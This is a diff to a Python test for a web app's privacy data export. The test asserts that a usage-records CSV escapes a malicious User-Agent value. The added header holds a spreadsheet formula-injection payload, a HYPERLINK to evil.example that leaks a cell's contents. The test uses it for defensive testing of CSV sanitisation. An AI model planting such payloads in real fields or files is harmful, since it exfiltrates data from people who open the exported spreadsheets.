@@ -1,5 +1,7 @@
 """The user's rights from Settings → Privacy: export, restriction, objection, erasure with recovery."""
 
+import csv
+import io
 import json
 import re
 import zipfile
@@ -43,7 +45,7 @@ def test_export_builds_a_zip_with_a_readme_and_no_secrets(alice_client, alice, u
     requests.post(
         live_server.url + "/v1/chat/completions",
         json={"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "CANARY-export-prompt"}]},
-        headers={"Authorization": f"Bearer {secret}"},
+        headers={"Authorization": f"Bearer {secret}", "User-Agent": '=HYPERLINK("http://evil.example/?"&A1,"Click")'},
         timeout=20,
     )
     alice_client.post("/login/", {"username": "alice@example.org", "password": PASSWORD})
@@ -73,6 +75,8 @@ def test_export_builds_a_zip_with_a_readme_and_no_secrets(alice_client, alice, u
     assert secret.encode() not in everything and b"sk-openai-secret" not in everything and b"CANARY-export-prompt" not in everything
     assert json.loads(archive.read("provider_keys.json"))[0]["last4"] == "6789"
     assert json.loads(archive.read("profile.json"))["email"] == "alice@example.org"
+    usage = list(csv.DictReader(io.StringIO(archive.read("usage_records.csv").decode())))
+    assert usage[0]["user_agent"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'  # text, not a formula, in a spreadsheet
     browsers = archive.read("signed_in_browsers.csv").decode().splitlines()
     assert browsers[0] == "created,last_seen,ip,device" and len(browsers) == 1 + alice.browser_sessions.count() > 1
 
